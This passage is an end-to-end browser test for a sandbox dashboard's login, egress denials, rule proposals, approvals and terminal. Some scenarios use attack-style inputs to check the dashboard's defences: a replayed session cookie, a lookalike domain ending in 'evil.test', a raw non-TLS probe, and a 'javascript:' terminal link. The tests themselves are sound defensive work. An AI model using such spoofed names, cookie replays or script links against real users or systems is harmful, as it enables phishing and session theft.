// The dashboard end to end, in headless Chromium (the distribution's,
// driven by playwright-core), against a real `warden serve` started from
// the debug binary (WARDEN_BIN): log in, see a sandbox appear, watch a
// denied connection show up live with what would allow it, type a command in the terminal and see
// its output, approve an ask-mode question and see the connection reach a
// real listener, commit one file of a diff and discard the other, see
// a desktop sandbox (the shipped `desktop` profile) on screen through noVNC, log out. Screenshots of a failure are kept under the target directory
// (printed). With `--screenshot FILE` the sandbox page's screenshot is
// also written there (the README's docs/dashboard.png).
//
// The create form picks its profile from the daemon's list and its
// options from the daemon's field table (GET /v1/fields); a denial of a
// name already allowed proposes no entry for it again, and a denial whose
// option no running sandbox takes (an owner-only one: an address range, a
// secret's plain port) is shown as the profile's words, with nothing to
// apply. A program an
// exec allowlist refuses inside shows as a denial and is counted with
// the denied names (where the host records such refusals).
//
// Copies: a sandbox with a planted file is snapshotted from its page and
// the snapshot listed (source, size, date, memory); a snapshot under a
// name taken is refused beside its form and changes nothing; a sandbox
// started from the snapshot shows the file in its Files tab; a fork into
// 2 lists both, each with the file and neither seeing the other's
// writes, and says that memory was not carried and why; a snapshot is
// deleted only once the confirmation is accepted.
//
// Run: WARDEN_BIN=target/debug/warden node dashboard/tests/e2e.mjs

import { chromium } from 'playwright-core';
import { spawn, execFileSync } from 'node:child_process';
import { mkdtempSync, mkdirSync, writeFileSync, readFileSync, readdirSync, existsSync, copyFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createInterface } from 'node:readline';
import { request, createServer as createHttpServer } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';

const here = dirname(fileURLToPath(import.meta.url));
const repo = resolve(here, '../..');
const target = process.env.CARGO_TARGET_DIR || join(repo, 'target');
const bin = process.env.WARDEN_BIN || join(target, 'debug/warden');
const browserPath = process.env.CHROMIUM || '/usr/bin/chromium';
const artifacts = join(target, 'dashboard-e2e');
const shotArg = process.argv.indexOf('--screenshot');
const shotOut = shotArg > 0 ? resolve(process.argv[shotArg + 1]) : null;

function skip(why) {
  console.log(`dashboard e2e: skipped: ${why}`);
  process.exit(0);
}
if (!existsSync(bin)) skip(`no warden binary at ${bin} (build it with cargo build, or set WARDEN_BIN)`);
if (!existsSync(browserPath)) skip(`no Chromium at ${browserPath} (apt-get install chromium, or set CHROMIUM)`);

rmSync(artifacts, { recursive: true, force: true });
mkdirSync(artifacts, { recursive: true });
const state = mkdtempSync(join(tmpdir(), 'warden-e2e-'));
const roots = join(state, 'ws');
const workspace = join(roots, 'project');
mkdirSync(workspace, { recursive: true });
writeFileSync(join(workspace, 'a.txt'), 'old a\n');
writeFileSync(join(workspace, 'b.txt'), 'old b\n');
const env = {
  ...process.env,
  WARDEN_STATE_DIR: join(state, 'warden'),
  // Ask mode's questions for names that resolve to loopback (the test's
  // own listener), and time enough to answer them.
  WARDEN_TEST_ASK_LOOPBACK: '1',
  WARDEN_TEST_ASK_TIMEOUT_MS: '60000',
  // What the host's resolver would answer for an allowed name that leads
  // to a private address: the proxy refuses it before connecting.
  WARDEN_TEST_RESOLVE: 'private.test=10.255.0.7',
};

const warden = (...args) => execFileSync(bin, args, { env, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
const token = warden('token', 'create', 'e2e', '--scope', 'admin').trim().split('\n').pop();

// A listener that records every connection that reaches it.
const arrivals = [];
const listener = createServer((sock) => {
  arrivals.push(Date.now());
  sock.on('error', () => {});
  setTimeout(() => sock.destroy(), 500);
});
await new Promise((r) => listener.listen(0, '127.0.0.1', r));
const port = listener.address().port;

// The daemon, on a TCP port of its choosing.
const daemon = spawn(bin, ['serve', '--listen', '127.0.0.1:0', '--workspace-root', roots], { env, stdio: ['ignore', 'ignore', 'pipe'] });
const base = await new Promise((resolveBase, reject) => {
  const timer = setTimeout(() => reject(new Error('the daemon did not start within 20s')), 20000);
  const lines = createInterface({ input: daemon.stderr });
  let addr = null;
  lines.on('line', (line) => {
    const m = line.match(/http:\/\/(\S+)/);
    if (m) addr = m[1];
    if (line.includes('serving on') && addr) {
      clearTimeout(timer);
      resolveBase(`http://${addr}`);
    }
  });
  daemon.on('exit', (c) => reject(new Error(`the daemon exited with ${c}`)));
});

async function call(method, path, body) {
  const r = await fetch(base + path, {
    method,
    headers: { authorization: `Bearer ${token}`, ...(body ? { 'content-type': 'application/json' } : {}) },
    body: body ? JSON.stringify(body) : undefined,
  });
  const text = await r.text();
  if (!r.ok) throw new Error(`${method} ${path}: ${r.status} ${text}`);
  return text ? JSON.parse(text) : null;
}

// The owner, on the daemon's owner-only socket (what only the owner may
// set: names mapped to the test's loopback listener).
function owner(method, path, body) {
  return new Promise((ok, fail) => {
    const data = body ? JSON.stringify(body) : undefined;
    const req = request({ socketPath: join(state, 'warden/daemon.sock'), path, method, headers: data ? { 'content-type': 'application/json' } : {} }, (res) => {
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => (res.statusCode < 300 ? ok(text ? JSON.parse(text) : null) : fail(new Error(`${method} ${path}: ${res.statusCode} ${text}`))));
    });
    req.on('error', fail);
    req.end(data);
  });
}

// A name a sandbox asks for that starts like a well-known one and says
// whose it is only at its end.
const LONG = `api.github.com.${'a'.repeat(60)}.${'b'.repeat(60)}.${'c'.repeat(60)}.evil.test`;

// Python in the sandbox: resolve NAME and connect to PORT.
const CONNECT = `import socket, sys
name, port = sys.argv[1], int(sys.argv[2])
try:
    ip = socket.gethostbyname(name)
except OSError:
    print('nxdomain', flush=True); sys.exit(0)
try:
    socket.create_connection((ip, port), timeout=90).close(); print('open', flush=True)
except OSError as e:
    print('refused', e, flush=True)
`;
const connect = (sb, name, background) =>
  call('POST', `/v1/sandboxes/${sb}/exec`, { argv: ['python3', '-c', CONNECT, name, String(port)], background });

// An HTTPS server for `held.test` on the host's loopback, its certificate
// from an authority of the test's own (given to the sandbox as the
// owner's upstream CA): the server a request rule's terminator talks to.
// It records each request's method and path.
const heldRequests = [];
async function heldServer() {
  const dir = join(state, 'held-ca');
  mkdirSync(dir, { recursive: true });
  const ssl = (...a) => execFileSync('openssl', a, { cwd: dir, stdio: 'ignore' });
  ssl('req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'ca.key', '-out', 'ca.pem', '-days', '1', '-subj', '/CN=warden e2e CA', '-addext', 'basicConstraints=critical,CA:TRUE', '-addext', 'keyUsage=critical,keyCertSign');
  ssl('req', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'leaf.key', '-out', 'leaf.csr', '-subj', '/CN=held.test');
  writeFileSync(join(dir, 'leaf.ext'), 'subjectAltName=DNS:held.test\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n');
  ssl('x509', '-req', '-in', 'leaf.csr', '-CA', 'ca.pem', '-CAkey', 'ca.key', '-CAcreateserial', '-out', 'leaf.pem', '-days', '1', '-extfile', 'leaf.ext');
  const server = createHttpsServer({ key: readFileSync(join(dir, 'leaf.key')), cert: readFileSync(join(dir, 'leaf.pem')) }, (req, res) => {
    heldRequests.push(`${req.method} ${req.url}`);
    res.end('ok');
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  return { server, port: server.address().port, ca: join(dir, 'ca.pem') };
}

// A desktop sandbox as a person makes one: the shipped `desktop` profile,
// whose supervisor starts the X server, window manager, panel, VNC server
// and Chromium. The programs it needs, as the runtime checks for them;
// the one the host lacks, if any.
const DESKTOP_BINS = ['Xvfb', 'dbus-daemon', 'xfwm4', 'xfce4-panel', 'x11vnc', 'chromium', 'xdotool', 'maim', 'certutil'];
function desktopMissing() {
  return DESKTOP_BINS.find((b) => !['/usr/bin', '/bin', '/usr/local/bin'].some((d) => existsSync(join(d, b))));
}
async function createDesktop(name) {
  await owner('POST', '/v1/sandboxes', { name, profile: 'desktop' });
}

const browser = await chromium.launch({ executablePath: browserPath, args: ['--no-sandbox'] });
const context = await browser.newContext({ viewport: { width: 1280, height: 860 } });
const page = await context.newPage();
const problems = [];
// A 401 is expected (the page asks for its session before the login,
// and the wrong token's login), and a 409 while a scenario says so (a
// sandbox that is not a desktop); anything else is a problem.
let expectedStatus = /status of 401/;
page.on('console', (m) => {
  if (m.type() === 'error' && !expectedStatus.test(m.text())) problems.push(m.text());
});
page.on('pageerror', (e) => problems.push(String(e)));

let step = 'start';
let failed = 0;
async function scenario(name, f) {
  step = name;
  const t0 = Date.now();
  try {
    await f();
    console.log(`ok: ${name} (${Date.now() - t0} ms)`);
  } catch (e) {
    failed++;
    const shot = join(artifacts, `${name.replace(/[^a-z0-9]+/gi, '-')}.png`);
    await page.screenshot({ path: shot, fullPage: true }).catch(() => {});
    writeFileSync(shot.replace(/\.png$/, '.html'), await page.content().catch(() => ''));
    console.log(`FAILED: ${name}: ${e.stack || e}\n  screenshot: ${shot}`);
    throw e;
  }
}

const waitFor = async (what, f, ms = 15000) => {
  const deadline = Date.now() + ms;
  while (Date.now() < deadline) {
    if (await f()) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`timed out waiting for ${what}`);
};

// The dashboard's way of writing a size (dom.js `bytes`).
function bytesText(n) {
  const units = ['B', 'KiB', 'MiB', 'GiB', 'TiB'];
  let i = 0;
  while (n >= 1024 && i < units.length - 1) {
    n /= 1024;
    i++;
  }
  return `${i ? n.toFixed(1) : n} ${units[i]}`;
}

// Open the sandbox page's Files tab and a file in it; its text must hold `text`.
async function readInFiles(file, text) {
  await page.click('#tab-files');
  const panel = page.locator('#panel-files');
  await panel.locator('button', { hasText: file }).click({ timeout: 20000 });
  await panel.locator('pre.file', { hasText: text }).waitFor();
}

try {
  await scenario('a wrong token is refused', async () => {
    await page.goto(base + '/');
    await page.fill('#token', 'wdn_000000000000_nope');
    await page.click('form.login button[type=submit]');
    await page.locator('form.login .error', { hasText: 'not valid' }).waitFor();
  });

  await scenario('log in', async () => {
    await page.fill('#token', token);
    await page.keyboard.press('Enter');
    await page.locator('h1', { hasText: 'Sandboxes' }).waitFor();
    const cookies = await context.cookies();
    const c = cookies.find((x) => x.name === 'warden_session');
    if (!c || !c.httpOnly || c.sameSite !== 'Strict') throw new Error(`the session cookie is not HttpOnly and SameSite=Strict: ${JSON.stringify(c)}`);
    if (await page.evaluate(() => document.cookie.includes('warden_session'))) throw new Error('a script can read the session cookie');
  });

  await scenario('another port of the host gets the cookie, which opens nothing alone', async () => {
    // As a sandbox's published dev server would: the browser sends the
    // daemon's cookie to every port of its host.
    const seen = [];
    const other = createHttpServer((req, res) => {
      seen.push(req.headers.cookie || '');
      res.end('a dev server');
    });
    await new Promise((r) => other.listen(0, new URL(base).hostname, r));
    try {
      const p = await context.newPage();
      await p.goto(`http://${new URL(base).hostname}:${other.address().port}/`);
      await p.close();
      const cookie = seen.find((c) => c.includes('warden_session='));
      if (!cookie) throw new Error(`the other port got no session cookie (${JSON.stringify(seen)}): this test's premise is gone`);
      // The thief is no browser: it claims the daemon's own origin.
      for (const path of ['/session', '/v1/sandboxes', '/v1/tokens']) {
        const r = await fetch(base + path, { headers: { cookie, origin: base, 'sec-fetch-site': 'same-origin' } });
        if (r.status !== 403) throw new Error(`the cookie alone got ${r.status} from ${path}: ${await r.text()}`);
      }
    } finally {
      other.close();
    }
  });

  await scenario('a sandbox appears', async () => {
    await owner('POST', '/v1/sandboxes', {
      name: 'demo',
      workspace,
      spec: { egress: { domains: [`allowed.test:${port}`, `private.test:${port}`], hosts: { 'blocked.test': '127.0.0.1', 'allowed.test': '127.0.0.1' } } },
    });
    await page.locator('tr[data-id=demo] .state', { hasText: 'running' }).waitFor();
  });

  await scenario("the create form picks a profile from the daemon's list, not the daemon's own", async () => {
    const picker = page.locator('select#new-profile');
    await picker.locator('option[value=researcher]').waitFor({ state: 'attached' });
    const first = await picker.locator('option').first();
    if ((await first.innerText()) !== 'default' || (await first.getAttribute('value')) !== '') throw new Error(`the first entry is not "default": ${await first.innerText()}`);
    if (await picker.locator('option[value="code-interpreter-v1-setup"]').count()) throw new Error("the daemon's own setup profile is offered");
    await page.fill('#new-name', 'picked');
    await picker.selectOption('python');
    await page.click('form.create button[type=submit]');
    await page.locator('tr[data-id=picked] td', { hasText: 'python' }).first().waitFor();
    await owner('POST', '/v1/sandboxes/picked/stop', {}).catch(() => {});
    await owner('DELETE', '/v1/sandboxes/picked');
  });

  await scenario("the create form's options are the daemon's field table's, and what is typed reaches the sandbox's spec", async () => {
    const { fields } = await call('GET', '/v1/fields');
    for (const key of ['resources.memory', 'resources.timeout', 'egress.domains']) {
      const row = fields.find((f) => f.key === key);
      if (!row) throw new Error(`GET /v1/fields has no ${key}`);
      const input = page.locator(`form.create input[name="${key}"]`);
      await input.waitFor();
      if ((await input.getAttribute('data-json')) !== row.json) throw new Error(`the ${key} input is not the table's ${row.json}`);
    }
    await page.fill('#new-name', 'optioned');
    await page.fill('form.create input[name="resources.memory"]', '256M');
    await page.fill('form.create input[name="resources.timeout"]', '10m');
    await page.fill('form.create input[name="egress.domains"]', 'one.test, two.test');
    const sent = page.waitForRequest((r) => r.url().endsWith('/v1/sandboxes') && r.method() === 'POST');
    await page.click('form.create button[type=submit]');
    const body = JSON.parse((await sent).postData());
    const want = { resources: { memory: '256M', timeout: '10m' }, egress: { domains: ['one.test', 'two.test'] } };
    if (JSON.stringify(body.spec) !== JSON.stringify(want)) throw new Error(`the body's spec: ${JSON.stringify(body)}`);
    await page.locator('tr[data-id=optioned]').waitFor();
    // What the daemon resolved and keeps for the sandbox.
    const kept = JSON.parse(readFileSync(join(state, 'warden/sandboxes/optioned/sandbox.json'), 'utf8')).spec;
    if (kept.resources.memory.value !== 256 * 1024 * 1024 || kept.resources.timeout === null) throw new Error(`the sandbox's limits: ${JSON.stringify(kept.resources)}`);
    if (!JSON.stringify(kept.network).includes('two.test')) throw new Error(`the sandbox's names: ${JSON.stringify(kept.network)}`);
    // A value its kind refuses is the daemon's refusal, at its pointer.
    await page.fill('#new-name', 'badsize');
    await page.fill('form.create input[name="resources.memory"]', '4 GB');
    expectedStatus = /status of (401|422|400)/;
    await page.click('form.create button[type=submit]');
    await page.locator('#toast.bad', { hasText: 'memory' }).waitFor();
    expectedStatus = /status of 401/;
    await owner('POST', '/v1/sandboxes/optioned/stop', {}).catch(() => {});
    await owner('DELETE', '/v1/sandboxes/optioned');
    await page.fill('form.create input[name="resources.memory"]', '');
    await page.fill('#new-name', '');
  });

  await scenario('a denied connection shows up live', async () => {
    await page.click('tr[data-id=demo] a');
    await page.locator('#panel-events').waitFor();
    await page.locator('.filters span', { hasText: 'live' }).waitFor();
    // The start reads whole to a token holder, whom the daemon does not
    // tell the init's host PID: no line of the view says "undefined".
    const started = page.locator('.ev[data-event=started]').first();
    await started.waitFor();
    const startText = await started.innerText();
    if (!startText.includes('sandbox started') || /undefined|pid/i.test(startText)) throw new Error(`the start reads: ${startText}`);
    const r = await connect('demo', 'blocked.test', false);
    if (!r.stdout.includes('nxdomain')) throw new Error(`the sandbox reached blocked.test: ${r.stdout}`);
    await page.locator('.ev.deny', { hasText: 'blocked.test' }).first().waitFor();
    await page.locator('#denied-count', { hasText: '1' }).waitFor();
    // The denial says what would have allowed it, in the API's words
    // (the daemon's `remedy`), never a flag of the command line.
    const remedy = page.locator('.ev.deny', { hasText: 'blocked.test' }).first().locator('.remedy');
    await remedy.waitFor();
    const said = await remedy.innerText();
    if (!said.includes('/egress/domains') || !said.includes('blocked.test') || said.includes('--')) throw new Error(`the remedy reads: ${said}`);
    const allowed = await connect('demo', 'allowed.test', false);
    if (!allowed.stdout.includes('open')) throw new Error(`allowed.test was not reached: ${JSON.stringify(allowed)}`);
    await page.locator('.ev.allow', { hasText: 'allowed.test' }).first().waitFor();
    const lines = await page.locator('ol.events li').allInnerTexts();
    const unworded = lines.filter((l) => l.includes('undefined'));
    if (unworded.length) throw new Error(`event lines with a missing value: ${unworded.join(' | ')}`);
    // The filter hides what does not match.
    await page.fill('.filters input[type=search]', 'blocked.test');
    await waitFor('the filter', async () => !(await page.locator('.ev.allow', { hasText: 'allowed.test' }).first().isVisible()));
    await page.fill('.filters input[type=search]', '');
  });

  await scenario('propose a rule and apply it live', async () => {
    await page.locator('.ev.deny', { hasText: 'blocked.test' }).first().locator('button', { hasText: 'Propose a rule' }).click();
    const proposal = page.locator('.proposal');
    // The denial was of the name (DNS), which says no port: the entry is
    // edited to name the listener's.
    await page.fill('#rule-entry', `blocked.test:${port}`);
    await proposal.locator('pre', { hasText: `- blocked.test:${port}` }).waitFor();
    await page.screenshot({ path: join(artifacts, 'dashboard.png') });
    if (shotOut) copyFileSync(join(artifacts, 'dashboard.png'), shotOut);
    await proposal.locator('button', { hasText: 'now' }).click();
    await page.locator('.ev', { hasText: 'allowlist changed' }).waitFor();
    // The rule is on the list, but it is a token holder's: it reaches
    // public addresses only, never the owner's pin of blocked.test to the
    // host's loopback (where the listener waits).
    const list = await call('PATCH', '/v1/sandboxes/demo/egress', { allow: [], remove: [] });
    if (!JSON.stringify(list).includes(`blocked.test:${port}`)) throw new Error(`the rule is not on the list: ${JSON.stringify(list)}`);
    const before = arrivals.length;
    // (The sandbox's connect itself succeeds: every connection is taken
    // by warden's proxy, which then decides; the listener is the proof.)
    const r = await connect('demo', 'blocked.test', false);
    await new Promise((res) => setTimeout(res, 500));
    if (arrivals.length !== before) throw new Error(`a token holder's rule used the owner's pin: ${r.stdout}`);
    await page.locator('.ev.deny', { hasText: 'blocked.test' }).nth(1).waitFor();
    // That denial's reason is the caller's reach, which no entry changes:
    // the name is already allowed, and is never proposed again.
    await new Promise((res) => setTimeout(res, 300));
    const last = page.locator('.ev.deny', { hasText: 'blocked.test' }).last();
    if (!(await last.innerText()).includes('caller')) throw new Error(`the last denial is not of the caller's reach: ${await last.innerText()}`);
    if (await last.locator('button', { hasText: 'Propose a rule' }).count()) throw new Error('an allowed name is proposed again');
  });

  await scenario('an allowed name refused for its private address shows the address range its reason names as the owner\'s words, never the name, with nothing to apply', async () => {
    await connect('demo', 'private.test', false);
    const denial = page.locator('.ev.deny', { hasText: 'private.test' }).filter({ hasText: 'non-public' }).first();
    await denial.waitFor();
    // A running sandbox takes names only, and the range is the owner's:
    // no proposal to edit or apply, the profile's words instead.
    if (await denial.locator('button').count()) throw new Error('a range is offered as a rule to propose or apply');
    const words = denial.locator('.owner-rule');
    await words.waitFor();
    const lines = await words.locator('pre').innerText();
    if (!lines.includes('allow_cidrs:') || !lines.includes('- 10.255.0.7/32') || lines.includes('domains') || lines.includes('private.test')) throw new Error(`the words read: ${lines}`);
    if (!(await words.innerText()).includes("host's owner")) throw new Error(`the words do not say whose: ${await words.innerText()}`);
  });

  await scenario("a secret's host reached without TLS is shown as the owner's profile words, not proposed, and nothing reaches the listener", async () => {
    const { fields } = await call('GET', '/v1/fields');
    const row = fields.find((f) => f.key === 'egress.secret_plain_ports');
    if (!row || row.live || row.reach !== 'host') throw new Error(`the table's secret_plain_ports row: ${JSON.stringify(row)}`);
    await owner('POST', '/v1/sandboxes', {
      name: 'plain',
      spec: {
        secrets: { E2E_TOKEN: { from_command: ['/bin/echo', 'e2e-secret-value'], hosts: ['secret.test'] } },
        egress: { domains: [`secret.test:${port}`], allow_http: true, hosts: { 'secret.test': '127.0.0.1' } },
      },
    });
    const before = arrivals.length;
    const raw = `import socket
s = socket.create_connection(('secret.test', ${port}), timeout=15)
s.sendall(b'\\x00RAW-PROBE\\r\\n')
s.settimeout(5)
try:
    print('got', s.recv(100))
except OSError as e:
    print('cut', e)
`;
    await call('POST', '/v1/sandboxes/plain/exec', { argv: ['python3', '-c', raw] });
    await page.goto(`${base}/#/sandboxes/plain`);
    await page.locator('#panel-events').waitFor();
    const denial = page.locator('.ev.deny', { hasText: 'secret.test' }).first();
    await denial.waitFor();
    if (arrivals.length !== before) throw new Error('bytes without TLS reached the secret\'s host');
    if (await denial.locator('button', { hasText: 'Propose a rule' }).count()) throw new Error('an owner-only option is offered as a rule to propose');
    if (await denial.locator('button').count()) throw new Error('an owner-only option has a button');
    const words = denial.locator('.owner-rule');
    await words.waitFor();
    const lines = await words.locator('pre').innerText();
    if (!lines.includes('secret_plain_ports:') || !lines.includes(`- secret.test:${port}`)) throw new Error(`the words read: ${lines}`);
    if (!(await words.innerText()).includes("host's owner")) throw new Error(`the words do not say whose: ${await words.innerText()}`);
    await owner('POST', '/v1/sandboxes/plain/stop', {}).catch(() => {});
    await owner('DELETE', '/v1/sandboxes/plain');
    await page.goto(`${base}/#/sandboxes/demo`);
    await page.locator('#panel-events').waitFor();
  });

  await scenario("a proposal's lines are the field table's keys: a key renamed in the table is renamed in the dashboard, with no edit there", async () => {
    // The demo sandbox's log as the page reads it, and the options its
    // denials' reasons name (by profile key, as the daemon's table has them).
    const got = await fetch(`${base}/v1/sandboxes/demo/events?follow=false`, { headers: { authorization: `Bearer ${token}` } });
    const stream = await got.text();
    const keys = new Set();
    let privateKey = null;
    for (const line of stream.split('\n')) {
      if (!line.startsWith('data:')) continue;
      const e = JSON.parse(line.slice(5));
      if (e.event !== 'connection' || e.allowed || !e.reason || !e.reason.field) continue;
      keys.add(e.reason.field);
      if (e.name === 'private.test') privateKey = e.reason.field;
    }
    const { fields } = await call('GET', '/v1/fields');
    const live = fields.find((f) => f.live);
    const range = fields.find((f) => f.key === privateKey && !f.live);
    if (!live || !keys.has(live.key) || !range) throw new Error(`the denials name ${[...keys]}; the table's live row is ${live && live.key}`);
    // The table as a daemon whose keys were renamed would serve it, and
    // the log as that daemon would have written it.
    const renamed = (k) => k.replace(/([^.]+)$/, 'renamed_$1');
    const swap = (text) => [...keys].reduce((t, k) => t.split(JSON.stringify(k)).join(JSON.stringify(renamed(k))), text);
    await page.route('**/v1/fields', (route) => route.fulfill({ status: 200, contentType: 'application/json', body: swap(JSON.stringify({ fields })) }));
    let served = false;
    await page.route('**/v1/sandboxes/demo/events**', (route) => {
      // Once; then 204, which ends an EventSource's reconnecting.
      if (served) return route.fulfill({ status: 204 });
      served = true;
      return route.fulfill({ status: 200, contentType: 'text/event-stream', body: swap(stream) });
    });
    // What a profile says for a list entry under a dotted key.
    const listLines = (key, value) => {
      const parts = key.split('.');
      const last = parts.pop();
      return [...parts.map((p, i) => `${'  '.repeat(i)}${p}:`), `${'  '.repeat(parts.length)}${last}:`, `${'  '.repeat(parts.length + 1)}- ${value}`].join('\n');
    };
    try {
      await page.reload();
      await page.locator('.ev.deny', { hasText: 'private.test' }).first().waitFor();
      const privateDenial = page.locator('.ev.deny', { hasText: 'private.test' }).filter({ hasText: 'non-public' }).first();
      let lines = await privateDenial.locator('.owner-rule pre').innerText();
      if (lines !== listLines(renamed(range.key), '10.255.0.7/32')) throw new Error(`the words read ${JSON.stringify(lines)}, not the renamed key ${renamed(range.key)}`);
      // The live row is the table's, whatever its key: its proposal offers
      // the live change.
      await page.locator('.ev.deny', { hasText: 'blocked.test' }).first().locator('button', { hasText: 'Propose a rule' }).click();
      const proposal = page.locator('.proposal', { hasText: 'blocked.test' });
      await proposal.waitFor();
      lines = await proposal.locator('pre').innerText();
      if (lines !== listLines(renamed(live.key), await page.inputValue('#rule-entry'))) throw new Error(`the live proposal reads ${JSON.stringify(lines)}`);
      if (!(await proposal.locator('button', { hasText: 'now' }).count())) throw new Error('the live row renamed is no longer offered as a live change');
      await proposal.locator('button', { hasText: 'Close' }).click();
    } finally {
      await page.unroute('**/v1/fields');
      await page.unroute('**/v1/sandboxes/demo/events**');
      await page.reload();
    }
    // And the daemon's own table: the same lines under the key it has.
    const words = page.locator('.ev.deny', { hasText: 'private.test' }).filter({ hasText: 'non-public' }).first().locator('.owner-rule pre');
    await words.waitFor();
    const lines = await words.innerText();
    if (lines !== listLines(range.key, '10.255.0.7/32')) throw new Error(`the words read ${JSON.stringify(lines)}, not the table's ${range.key}`);
  });

  await scenario("a VM relay's cuts read as what was cut and why: an exec's output, and the guest cut off", async () => {
    // The events as a VM sandbox's log holds them (the demo sandbox is
    // not a VM: its stream is replaced, once, then put back).
    const at = Date.now();
    const lines = [
      { ts_ms: at, sandbox: 'demo', event: 'exec_started', exec: 7, argv: ['sh', '-c', 'flood'], pid: 40, tty: false },
      { ts_ms: at + 1, sandbox: 'demo', event: 'exec_output_cut', exec: 7, stalled_ms: 5000 },
      { ts_ms: at + 2, sandbox: 'demo', event: 'vm_cut_off', cause: 'unasked_answers', answers: 5, bound: 4 },
      { ts_ms: at + 3, sandbox: 'demo', event: 'vm_cut_off', cause: 'guest_stalled', stalled_ms: 30000 },
    ];
    const body = lines.map((e) => `data: ${JSON.stringify(e)}\n\n`).join('');
    let served = false;
    await page.route('**/v1/sandboxes/demo/events**', (route) => {
      if (served) return route.fulfill({ status: 204 });
      served = true;
      return route.fulfill({ status: 200, contentType: 'text/event-stream', body });
    });
    try {
      await page.reload();
      const cut = page.locator('.ev[data-event=exec_output_cut]');
      await cut.waitFor();
      const cutText = await cut.innerText();
      if (!cutText.toLowerCase().includes('output cut') || !cutText.includes('#7') || !cutText.includes('took nothing of its output for 5 s')) throw new Error(`the output's cut reads: ${cutText}`);
      const off = await page.locator('.ev[data-event=vm_cut_off]').allInnerTexts();
      if (off.length !== 2 || !off[0].includes('sent 5 answers about its shares that nobody asked for') || !off[1].includes('took nothing from its channel for 30 s')) throw new Error(`the cut-offs read: ${off.join(' | ')}`);
      const unworded = off.concat(cutText).filter((l) => l.includes('undefined') || l.includes('{'));
      if (unworded.length) throw new Error(`cut lines not worded: ${unworded.join(' | ')}`);
    } finally {
      await page.unroute('**/v1/sandboxes/demo/events**');
      await page.reload();
    }
  });

  await scenario('the terminal runs a command', async () => {
    await page.click('#tab-terminal');
    await page.locator('#panel-terminal [role=status]', { hasText: 'running' }).waitFor();
    await page.click('#terminal');
    await page.keyboard.type('echo "hello-$((6*7))" && cd /workspace && echo new-a > a.txt && echo new-b > b.txt\n', { delay: 5 });
    await waitFor('the command output in the terminal', async () => (await page.locator('.xterm-rows').innerText()).includes('hello-42'));
  });

  await scenario("a link in the terminal's output opens only when it is http(s), and only after asking", async () => {
    // Outside review 30 (hardening): xterm.js's own OSC 8 handler opened
    // whatever its filter let through; the page's handler opens http(s)
    // alone, never a `javascript:` one, and asks first.
    const opened = [];
    const onPage = (p) => opened.push(p.url());
    context.on('page', onPage);
    const asked = [];
    const onDialog = (d) => {
      asked.push(d.message());
      d.dismiss();
    };
    page.on('dialog', onDialog);
    try {
      // Each link starts a line of output: `%s` keeps the typed command's
      // echo from holding the link's text.
      const line = (uri, text) => `printf '\\033]8;;${uri}\\033\\\\%s\\033]8;;\\033\\\\\\n' ${text}`;
      await page.click('#terminal');
      await page.keyboard.type(`printf '\\033[H\\033[2J'; ${line('javascript:document.title=1', 'JSLINKJSLINKJSLINK')}; ${line('http://127.0.0.1:1/x', 'HTLINKHTLINKHTLINK')}\n`, { delay: 2 });
      const click = async (text) => {
        const row = page.locator('.xterm-rows > div', { hasText: new RegExp(`^${text}`) });
        await row.waitFor();
        const box = await row.boundingBox();
        await page.mouse.move(box.x + 4, box.y + box.height / 2);
        await page.waitForTimeout(300);
        await page.mouse.click(box.x + 4, box.y + box.height / 2);
        await page.waitForTimeout(500);
      };
      await click('JSLINK');
      if (asked.length || opened.length) throw new Error(`a javascript: link was offered: ${JSON.stringify(asked)} ${JSON.stringify(opened)}`);
      await click('HTLINK');
      await waitFor('the question about the http link', async () => asked.length > 0, 5000);
      if (!asked[0].includes('http://127.0.0.1:1/x') || !asked[0].includes("sandbox's terminal")) throw new Error(`the question reads: ${JSON.stringify(asked)}`);
      if (opened.length) throw new Error(`a dismissed link opened: ${JSON.stringify(opened)}`);
      if ((await page.title()) === '1') throw new Error('the javascript: link ran');
    } finally {
      context.off('page', onPage);
      page.off('dialog', onDialog);
    }
  });

  await scenario('the README\'s address opens a sandbox, and its Files tab lists and shows files with no stray text', async () => {
    await page.goto(`${base}/#/sandboxes/demo`);
    await page.click('#tab-files');
    const panel = page.locator('#panel-files');
    await panel.locator('button', { hasText: 'a.txt' }).waitFor({ timeout: 20000 });
    const listed = await panel.innerText();
    if (/\bnull\b|undefined/.test(listed)) throw new Error(`the files list shows stray text: ${listed}`);
    await panel.locator('button', { hasText: 'a.txt' }).click();
    await panel.locator('pre.file', { hasText: 'new-a' }).waitFor();
    const shown = await panel.innerText();
    if (/\bnull\b|undefined/.test(shown)) throw new Error(`a shown file has stray text: ${shown}`);
    await page.goto(`${base}/#/sandboxes/demo/events`);
    await page.locator('#tab-events[aria-selected=true]').waitFor();
  });

  await scenario('an ask-mode question is approved, and the approval of a token holder never uses the owner\'s pin', async () => {
    await owner('POST', '/v1/sandboxes', { name: 'asker', spec: { egress: { ask: true, hosts: { 'asked.test': '127.0.0.1', [LONG]: '127.0.0.1' } } } });
    const before = arrivals.length;
    const exec = await connect('asker', 'asked.test', true);
    const prompt = page.locator('.prompt', { hasText: 'asked.test' });
    await prompt.waitFor({ timeout: 20000 });
    if (arrivals.length !== before) throw new Error('the connection arrived before it was approved');
    await page.locator('#approval-count', { hasText: '1' }).waitFor();
    await prompt.locator('button', { hasText: 'Allow once' }).click();
    await waitFor('the exec to end', async () => (await call('GET', `/v1/sandboxes/asker/execs/${exec.id}`)).exit_status !== null, 20000);
    await prompt.waitFor({ state: 'detached' });
    // The answer is a token holder's: the approved name reaches public
    // addresses only, never the owner's pin to the host's loopback.
    if (arrivals.length !== before) throw new Error('a token holder\'s answer used the owner\'s pin');
  });

  await scenario('a long name in a question is shown whole, its end (the real domain) never cut off', async () => {
    await connect('asker', LONG, true);
    const prompt = page.locator('.prompt', { hasText: 'evil.test' });
    await prompt.waitFor({ timeout: 20000 });
